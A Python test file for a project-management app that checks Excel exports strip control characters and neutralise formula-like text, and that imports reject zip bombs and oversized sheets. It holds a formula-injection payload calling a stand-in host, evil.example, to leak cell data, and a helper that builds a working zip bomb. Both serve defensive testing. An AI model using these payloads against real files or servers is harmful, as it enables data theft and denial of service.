"""Excel safety (issue 13): exports survive control characters in stored text (item 13) and never
write a live formula (item 14); imports refuse zip bombs and huge sheets before the work (item 12)."""

import io
import time
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import text

from projectmgr.extensions import db
from projectmgr.models import Role
from projectmgr.services.excel.workbook import MAX_ROWS, MAX_UNCOMPRESSED, safe_text, unquote

from .test_excel import _people, _template_rows, _workbook


def _book(response):
    assert response.status_code == 200, response.data[:300]
    assert response.headers["Cache-Control"] == "no-store"
    return load_workbook(io.BytesIO(response.data))


def _cells(wb):
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_stored_control_characters_do_not_break_the_exports(make, api):
    """Rows written before input was checked (or by SQL) hold ESC and other controls (NUL too on
    SQLite; PostgreSQL refuses it in text): every export still answers, with them stripped."""
    staff, org, owner, plan = _people(make)
    make.project(plan=plan, owner=owner, staff=staff, start=date(2024, 1, 1), end=date(2024, 6, 30))
    s = api.as_(staff)
    target = s.post("/ledger/targets", json={"year": 2024, "title": "专利", "unit": "件", "target_value": "10"})
    assert target.status_code == 201
    db.session.execute(text("UPDATE project SET title = :t, code = :c"), {"t": "坏\x02标题\x1b", "c": "P\x01-1"})
    db.session.execute(text("UPDATE ledger_target SET title = :t"), {"t": "台账\x08\x02"})
    db.session.execute(text("UPDATE organization SET name = :t"), {"t": "单位\x07"})
    db.session.commit()
    for url in (
        "/exports/projects.xlsx",
        "/exports/overdue.xlsx?as_of=2025-01-01",
        "/exports/ledger.xlsx?year=2024",
        "/imports/projects/template.xlsx",
    ):
        wb = _book(s.get(url))
        values = [c.value for c in _cells(wb) if isinstance(c.value, str)]
        assert not any(ch in v for v in values for ch in "\x00\x01\x02\x07\x08\x1b"), url
    titles = [c.value for c in _cells(_book(s.get("/exports/projects.xlsx")))]
    assert "坏标题" in titles and "P-1" in titles


@pytest.mark.parametrize(
    "title",
    ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+2", "-3+4", "@SUM(A1:A2)", "\t=1+1"],
)
def test_formula_like_text_is_exported_as_text(make, api, title):
    staff, org, owner, plan = _people(make)
    make.project(plan=plan, owner=owner, staff=staff, title=title)
    wb = _book(api.as_(staff).get("/exports/projects.xlsx"))
    cells = [
        c
        for c in _cells(wb)
        if isinstance(c.value, str) and c.value.lstrip("'").lstrip("\t\r").startswith(title.lstrip("\t\r")[:2])
    ]
    assert cells, title
    for cell in cells:
        assert cell.data_type == "s"
        assert cell.value == "'" + title
    raw = zipfile.ZipFile(io.BytesIO(api.as_(staff).get("/exports/projects.xlsx").data))
    sheets = "".join(raw.read(n).decode() for n in raw.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets  # no formula anywhere


def test_the_apostrophe_comes_off_on_import():
    for value in ["=1+1", "+x", "-y", "@z", "\tq"]:
        assert unquote(safe_text(value)) == value
    assert unquote("'plain") == "'plain" and safe_text("plain") == "plain" and safe_text(5) == 5


def _bomb(inner_bytes: int) -> io.BytesIO:
    """A real workbook plus a member that deflates from `inner_bytes` zeros to a few kilobytes."""
    wb = Workbook()
    wb.active.append(["x"])
    plain = io.BytesIO()
    wb.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename))
        with dst.open("xl/sharedStrings.xml", "w", force_zip64=True) as member:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(inner_bytes // len(chunk)):
                member.write(chunk)
    out.seek(0)
    return out


def test_the_limits_default_to_50_mb_and_5000_rows(app):
    assert MAX_UNCOMPRESSED == app.config["EXCEL_IMPORT_MAX_BYTES"] == 50 * 1024 * 1024
    assert MAX_ROWS == app.config["EXCEL_IMPORT_MAX_ROWS"] == 5000


@pytest.mark.parametrize("what", ["projects", "ledger"])
def test_a_zip_bomb_is_refused_before_parsing(make, api, what):
    staff = make.user(Role.staff)
    bomb = _bomb(60 * 1024 * 1024)
    assert len(bomb.getvalue()) < 200_000
    started = time.perf_counter()
    r = api.as_(staff).post(f"/imports/{what}", data={"file": (bomb, "b.xlsx")}, content_type="multipart/form-data")
    assert r.status_code == 422, r.get_json()
    assert "MB" in r.get_json()["error"]["details"][0]["message"]
    assert time.perf_counter() - started < 3


def test_a_sheet_past_the_row_limit_is_refused_while_reading(app, make, api):
    staff, org, owner, plan = _people(make)
    app.config["EXCEL_IMPORT_MAX_ROWS"] = 20
    try:
        rows = [_template_rows(plan, org, owner, staff, code=f"R-{i}") for i in range(21)]
        f = _workbook(rows, [[r["code"], "equipment", 100000, 50000] for r in rows], [])
        r = api.as_(staff).post("/imports/projects", data={"file": (f, "r.xlsx")}, content_type="multipart/form-data")
        within = _workbook(rows[:20], [[r["code"], "equipment", 100000, 50000] for r in rows[:20]], [])
        ok = api.as_(staff).post(
            "/imports/projects", data={"file": (within, "r.xlsx")}, content_type="multipart/form-data"
        )
    finally:
        app.config["EXCEL_IMPORT_MAX_ROWS"] = MAX_ROWS
    assert r.status_code == 422
    details = r.get_json()["error"]["details"]
    assert len(details) == 1 and "20 rows" in details[0]["message"], details
    assert "more than" not in str(ok.get_json())  # 20 rows are read (refused for the missing indicators only)
